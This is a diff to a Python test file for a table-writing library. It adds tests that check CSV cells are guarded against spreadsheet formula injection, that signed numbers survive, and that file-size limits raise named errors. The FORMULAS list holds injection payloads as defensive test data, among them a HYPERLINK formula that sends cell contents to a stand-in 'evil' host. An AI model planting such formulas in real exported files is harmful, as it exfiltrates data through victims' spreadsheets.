@@ -1,18 +1,24 @@
 """Samples and judgements on disk: what was written is read back, and what is broken is named."""
 
+import csv
 import errno
 import hashlib
 import json
 import random
 import resource
+import tempfile
 from pathlib import Path
 
+import campaigns
 import polars as pl
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from excam.core import tables
 from excam.core.exceptions import ArtifactBroken, InputInvalid, SourceInvalid
 from excam.core.source_tables import read_table
+from excam.core.spreadsheets import guard_cell, remove_guard
 from excam.error_reports import record_files
 from excam.error_reports.records import BaseSample, CulturalError, Report, Sample, Verdict
 from excam.scoring import pairs
@@ -215,6 +221,51 @@ def test_a_table_as_it_was_written(tmp_path):
     assert tables.read_lines(tmp_path / "figure.csv") == [{"a": "x, y", "b": "1"}, {"a": "two\nlines", "b": ""}]
 
 
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-1+cmd", "@SUM(1)", "\t=1", "'=1", "a;=1", "x\n-1+1", "--", "+")
+NUMBERS = ("+0.12", "-5.0", "−.10", "-1e-5", "-", "-.5", "+3", "-2.", "0", "1e10", "−5", "–", "-0.25E+3")
+EITHER = st.one_of(
+    st.text(), st.text("=+-@;\t\r\n'\"\uff1d1.e"), st.sampled_from((*FORMULAS, *NUMBERS, *campaigns.FORMULAS))
+)
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *campaigns.FORMULAS])
+def test_no_spreadsheet_runs_a_cell_of_a_table(tmp_path, text):
+    tables.write_lines(tmp_path / "a.csv", ("why",), [{"why": text}])
+    tables.write_csv(tmp_path / "b.csv", pl.DataFrame({"why": [text, None]}))
+    for name in ("a.csv", "b.csv"):
+        with (tmp_path / name).open(newline="", encoding="utf-8") as stream:
+            (cell,) = list(csv.reader(stream))[1]
+        assert cell[:1] not in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+        assert cell == guard_cell(text)
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_a_number_with_a_sign_stays_a_number(tmp_path, number):
+    tables.write_lines(tmp_path / "a.csv", ("a", "b"), [{"a": number, "b": -1.5}])
+    assert (tmp_path / "a.csv").read_bytes().decode() == f"a,b\r\n{number},-1.5\r\n"
+    tables.write_csv(tmp_path / "b.csv", pl.DataFrame({"a": [number], "b": [-1.5]}))
+    assert (tmp_path / "b.csv").read_text(encoding="utf-8") == f"a,b\n{number},-1.5\n"
+
+
+@given(st.lists(EITHER))
+@settings(max_examples=200, deadline=None)
+def test_texts_of_tables_come_back_to_the_letter(texts):
+    assert [remove_guard(guard_cell(text)) for text in texts] == texts
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder, "a.csv")
+        tables.write_lines(path, ("a", "b"), [{"a": text, "b": 1} for text in texts])
+        assert [line["a"] for line in tables.read_lines(path)] == texts
+        frame = pl.DataFrame({"a": texts, "b": [1] * len(texts)}, schema={"a": pl.String, "b": pl.Int64})
+        tables.write_csv(path, frame)
+        assert tables.read_csv(path, frame.schema).equals(frame)
+
+
+def test_a_cell_that_no_file_can_hold_is_one_line(tmp_path):
+    with pytest.raises(InputInvalid, match=r"a\.csv: a cell holds U\+D83D, a lone surrogate; expected Unicode text"):
+        tables.write_lines(tmp_path / "a.csv", ("a",), [{"a": "\ud83d"}])
+    assert list(tmp_path.iterdir()) == []
+
+
 @pytest.mark.parametrize("write", [tables.write_frame, tables.write_csv])
 def test_no_room_for_a_table_names_the_file(tmp_path, write):
     """Polars writes itself, and tells of the system's refusal in other words and as another exception."""
@@ -230,6 +281,29 @@ def test_no_room_for_a_table_names_the_file(tmp_path, write):
     assert (caught.value.errno, caught.value.filename) == (errno.EFBIG, str(path))
     assert list(tmp_path.iterdir()) == []
     write(path, frame)
+
+
+def _in_frames(path, frame):
+    tables.write_frames(path, iter([frame]), frame.schema, len(frame))
+
+
+@pytest.mark.parametrize("write", [tables.write_frame, _in_frames], ids=["frame", "frames"])
+def test_no_room_for_what_describes_a_column_names_the_file_too(tmp_path, write):
+    """Polars writes these parts through another library, which tells of a refusal without its number."""
+    frame = pl.DataFrame({f"column {at}": [at * 1.1] for at in range(200)})
+    path, (soft, hard) = tmp_path / "rows", resource.getrlimit(resource.RLIMIT_FSIZE)
+    write(path, frame)
+    size = path.stat().st_size
+    path.unlink()
+    for limit in range(0, size, size // 40):
+        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
+        try:
+            with pytest.raises(OSError, match="File too large") as caught:
+                write(path, frame)
+        finally:
+            resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+        assert (caught.value.errno, caught.value.filename) == (errno.EFBIG, str(path))
+        assert list(tmp_path.iterdir()) == []
 
 
 @pytest.mark.parametrize(
